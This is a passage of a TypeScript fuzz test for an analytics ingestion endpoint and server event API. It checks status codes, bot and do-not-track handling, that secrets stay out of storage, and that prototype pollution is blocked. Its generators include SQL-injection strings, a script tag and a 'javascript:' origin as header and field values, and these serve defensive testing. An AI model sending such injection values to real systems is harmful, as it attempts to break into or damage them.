      'content-length': sometimes(fc.constantFrom('99999', '1e9', '8193', '0', 'abc', '-1', ''), 3),
      'content-type': sometimes(fc.constantFrom('text/plain', 'text/plain;charset=UTF-8', 'application/json', 'application/json; charset=utf-16', 'application/x-www-form-urlencoded', 'multipart/form-data; boundary=----x', 'application/octet-stream', ''), 70),
      dnt: sometimes(fc.constantFrom('1', '0', ' 1 ', 'yes'), 8),
      origin: sometimes(fc.constantFrom('https://shop.acme.test', 'https://evil.test', 'null', "javascript:alert('x')", '%', `https://${'a'.repeat(300)}.test`), 25),
      'sec-gpc': sometimes(fc.constant('1'), 4),
      'user-agent': fc.oneof(
        { arbitrary: fc.constant(CHROME), weight: 12 },
        { arbitrary: fc.constant(IPHONE), weight: 3 },
        { arbitrary: fc.constantFrom(GOOGLEBOT, HEADLESS, 'curl/8.5.0', 'python-requests/2.32.3', "' OR 1=1 --", '<script>'), weight: 3 },
        { arbitrary: fc.constantFrom('', LONG_UA), weight: 1 },
        { arbitrary: fc.constant(undefined), weight: 1 },
      ),
      'x-forwarded-for': fc.oneof(
        { arbitrary: fc.constantFrom(...CLIENT_IPS), weight: 10 },
        {
          arbitrary: fc.constantFrom(
            '198.51.100.77, 10.0.0.1',
            '203.0.113.9, 198.51.100.77',
            'unknown',
            '',
            ' , ,',
            '999.999.999.999',
            '[2001:db8:abcd:12::77]:443',
            '198.51.100.77:8080',
            '::ffff:198.51.100.77',
            'fe80::1%eth0',
            "'; DROP TABLE users; --",
            Array.from({ length: 300 }, (_, i) => `10.${i >> 8}.${i & 255}.1`).join(', '),
          ),
          weight: 3,
        },
        { arbitrary: fc.constant(undefined), weight: 1 },
      ),
    })
    .map((record) => Object.fromEntries(Object.entries(record).filter(([, value]) => value !== undefined)) as Record<string, string>)

  // Over the network a body arrives in pieces: multi-byte characters and bad bytes split across them, the limit crossed mid-way.
  const chunks = fc.oneof({ arbitrary: fc.constant(null), weight: 85 }, { arbitrary: fc.array(fc.nat(), { maxLength: 12, minLength: 1 }), weight: 15 })

  return fc.tuple(body, headers, chunks).map(([fuzz, h, cuts]): FuzzCase => ({ ...fuzz, chunks: cuts, headers: h }))
}

beforeAll(async () => {
  payload = await bootPayload({
    analytics: {
      defaults: { allowedHostnames: ['localhost'] },
      ingest: { rateLimits: { perClient: { limit: 1e9, windowSeconds: 60 }, perSite: { limit: 1e9, windowSeconds: 60 } }, trustProxy: 1 },
      redisKeyPrefix: keyPrefix,
      redisUrl: inject('redisUrl'),
    },
  })
  redis = new Redis(inject('redisUrl'))
  sites = Object.values(await demoSites(payload))
})

afterAll(async () => {
  redis?.disconnect()
  await payload?.destroy()
})

test(`${RUNS} hostile bodies through the REST handler: only 202 or 4xx, and only accepted events are buffered`, async () => {
  const started = Date.now()
  const byCategory = new Map<string, number>()
  const byStatus = new Map<string, number>()
  const chunkedByStatus = new Map<string, number>()
  const variants = new Set<string>()
  let accepted = 0
  let acceptedFromSecretClient = 0
  const count = (map: Map<string, number>, key: string) => map.set(key, (map.get(key) ?? 0) + 1)

  const bufferedBefore = await streamLength()
  await fc.assert(
    fc.asyncProperty(arbitraries(sites), async (fuzz) => {
      const bytes = byteLength(fuzz.body)
      const declared = Number(fuzz.headers['content-length'] ?? 0)
      const over = bytes > MAX_BODY || declared > MAX_BODY
      if (fuzz.category === 'invalid-utf8' && !over) expect(isUtf8(fuzz.body as Uint8Array), 'generator: invalid UTF-8 must be invalid').toBe(false)

      const before = await streamLength()
      const body = fuzz.chunks && fuzz.body !== undefined ? chunked(fuzz.body, fuzz.chunks) : fuzz.body
      const response = await rawRequest(payload, 'POST', '/analytics/track', { body, headers: fuzz.headers })
      const after = await streamLength()
      const dropped = response.headers.get('x-analytics-dropped')

      // The contract: never a 5xx, never anything but 202 or 4xx.
      expect(response.status === 202 || (response.status >= 400 && response.status < 500), `status ${response.status}: ${response.text.slice(0, 300)}`).toBe(true)
      // What this body deserves.
      if (over) expect(response.status, response.text.slice(0, 300)).toBe(413)
      else expect(fuzz.allowed, `status ${response.status}: ${response.text.slice(0, 300)}`).toContain(response.status)
      // A refusal says why, in JSON.
      if (response.status !== 202) {
        expect(response.headers.get('content-type')).toMatch(/^application\/json/)
        expect(typeof response.body.error === 'string' && response.body.error.length > 0, `no error message: ${response.text.slice(0, 300)}`).toBe(true)
      }
      // Exactly one event for an accepted request, none for anything else.
      const isAccepted = response.status === 202 && dropped === null
      expect(after - before, `buffered ${after - before} for status ${response.status}, dropped=${dropped}`).toBe(isAccepted ? 1 : 0)

      // A valid event from an ordinary browser is stored; from a bot or headless browser it is dropped.
      const ua = fuzz.headers['user-agent']
      if (fuzz.category === 'valid' && !over) {
        const optedOut = fuzz.headers.dnt?.trim() === '1' || fuzz.headers['sec-gpc'] === '1'
        if (ua !== undefined && HUMAN_UAS.has(ua)) expect(dropped).toBe(optedOut ? 'dnt' : null)
        if (ua === GOOGLEBOT || ua === '' || ua === undefined) expect(dropped).toBe('bot')
        if (ua === HEADLESS) expect(dropped).toBe('automation')
      }

      count(byCategory, fuzz.category)
      count(byStatus, dropped ? `202 dropped:${dropped}` : String(response.status))
      variants.add(`${fuzz.category}/${fuzz.variant}`)
      if (fuzz.chunks) count(chunkedByStatus, String(response.status))
      if (isAccepted) {
        accepted++
        if (ua === CHROME && CLIENT_IPS.includes(fuzz.headers['x-forwarded-for'] ?? '')) acceptedFromSecretClient++
      }
    }),
    { numRuns: RUNS, seed: SEED },
  )
  const elapsed = Date.now() - started

  // The generator really produced every kind of input, and the handler really took every path.
  const summary = { categories: Object.fromEntries(byCategory), elapsedMs: elapsed, seed: SEED, statuses: Object.fromEntries(byStatus), streamed: Object.fromEntries(chunkedByStatus), variants: variants.size }
  console.log(`fuzz: ${JSON.stringify(summary)}`)
  for (const category of CATEGORIES) expect(byCategory.get(category) ?? 0, `category ${category}`).toBeGreaterThanOrEqual(100)
  for (const status of ['202', '202 dropped:bot', '202 dropped:automation', '202 dropped:dnt', '400', '403', '404', '413']) {
    expect(byStatus.get(status) ?? 0, `status ${status}`).toBeGreaterThanOrEqual(50)
  }
  expect([...byStatus.keys()].filter((status) => !/^(202|4\d\d)/.test(status))).toEqual([])
  expect(variants.size).toBeGreaterThan(150)
  for (const status of ['202', '400', '413']) expect(chunkedByStatus.get(status) ?? 0, `streamed, status ${status}`).toBeGreaterThanOrEqual(20)

  // The total agrees, and what was stored is clean.
  expect((await streamLength()) - bufferedBefore).toBe(accepted)
  expect(acceptedFromSecretClient).toBeGreaterThan(100)
  const raw = await streamRaw(redis, keyPrefix)
  for (const secret of [...CLIENT_IPS, ...FORBIDDEN_IN_STREAM]) expect(raw.includes(secret), `"${secret}" reached the stream`).toBe(false)
  const unsafe = /[\p{Cc}\p{Cs}]/u
  for (const event of await streamEvents(redis, keyPrefix)) {
    for (const key of ['__proto__', 'constructor', 'prototype']) expect(Object.hasOwn(event.props ?? {}, key)).toBe(false)
    expect(event.path ?? '').not.toMatch(unsafe)
    expect(event.hostname ?? '').not.toMatch(unsafe)
    expect(sites.some((s) => s.id === event.siteId && s.tenant === event.tenantId)).toBe(true)
  }
  expect(({} as Record<string, unknown>).polluted).toBeUndefined()
  expect(Object.prototype).not.toHaveProperty('polluted')
}, 120_000)

test(`${SERVER_RUNS} hostile server events (bad dates, wrong types): accepted and buffered, or refused with AnalyticsInputError`, async () => {
  const siteIds = sites.map((s) => s.id)
  const BAD_TIMESTAMPS: unknown[] = [
    new Date(Number.NaN),
    new Date(8.64e15),
    new Date(-8.64e15),
    '2024-02-30T00:00:00Z',
    '2024-13-01T00:00:00Z',
    '+275760-09-13T00:00:00.000Z',
    '-000001-01-01T00:00:00Z',
    '2024-01-01',
    '2024-01-01T00:00:00',
    'not a date',
    '',
    -1,
    1.5,
    8.64e15 + 1,
    Number.NaN,
    Infinity,
    null,
    {},
    [],
    true,
    "'; DROP TABLE analytics_events; --",
  ]
  const timestamp = fc.oneof(
    fc.constantFrom(...BAD_TIMESTAMPS),
    fc.date(),
    fc.integer({ max: Date.now() + 3_600_000, min: Date.now() - 800 * 86_400_000 }).chain((ms) => fc.constantFrom<unknown>(ms, new Date(ms), new Date(ms).toISOString(), new Date(ms).toISOString().replace('Z', '+05:30'))),
    fc.constant(undefined),
  )
  const input = fc.oneof(
    { arbitrary: fc.oneof(fc.constant(null), fc.constant(undefined), fc.jsonValue(), fc.string()), weight: 1 },
    // A good event but for its time: the dates are what this is about.
    {
      arbitrary: fc.record(
        { siteId: fc.constantFrom(...siteIds), timestamp, type: fc.constantFrom('automation.run', 'ai.usage', 'export.completed', 'custom:thing'), value: fc.double({ noDefaultInfinity: true, noNaN: true }) },
        { requiredKeys: ['siteId', 'type'] },
      ),
      weight: 5,
    },
    {
      arbitrary: fc.record(
        {
          extra: fc.jsonValue(),
          path: fc.oneof(fc.constantFrom('/', '/a/b?c=1#d', 'relative', '/\u0000', `/${'a'.repeat(3000)}`), fc.constantFrom(...HOSTILE).map((h) => `/${h}`)),
          props: fc.oneof(fc.dictionary(fc.string(), fc.jsonValue(), { maxKeys: 4 }), fc.jsonValue()),
          siteId: fc.oneof(fc.constantFrom<unknown>(...siteIds, ...siteIds.map(String), 0, -1, 1.5, 999_999, '999999', '', null, sites[0]!.domain), fc.jsonValue()),
          timestamp,
          type: fc.oneof(fc.constantFrom('automation.run', 'ai.usage', 'export.completed', 'custom:thing'), fc.constantFrom(...HOSTILE), fc.jsonValue()),
          value: fc.oneof(fc.double(), fc.jsonValue()),
        },
        { requiredKeys: [] },
      ),
      weight: 4,
    },
  )
  let accepted = 0
  let refused = 0
  await fc.assert(
    fc.asyncProperty(input, async (event) => {
      const before = await streamLength()
      let outcome: 'accepted' | 'refused'
      try {
        const { eventId } = await payload.analytics!.track(event as Parameters<NonNullable<Payload['analytics']>['track']>[0])
        expect(eventId).toMatch(/^[0-9a-f-]{36}$/)
        outcome = 'accepted'
      } catch (error) {
        expect(error, String(error)).toBeInstanceOf(AnalyticsInputError)
        expect([400, 403, 404]).toContain((error as AnalyticsInputError).status)
        expect((error as Error).message.length).toBeGreaterThan(0)
        outcome = 'refused'
      }
      expect((await streamLength()) - before).toBe(outcome === 'accepted' ? 1 : 0)
      if (outcome === 'accepted') accepted++
      else refused++
    }),
    { numRuns: SERVER_RUNS, seed: SEED },
  )
  console.log(`fuzz server events: ${JSON.stringify({ accepted, refused, seed: SEED })}`)
  expect(accepted).toBeGreaterThan(100)
  expect(refused).toBeGreaterThan(300)
}, 60_000)
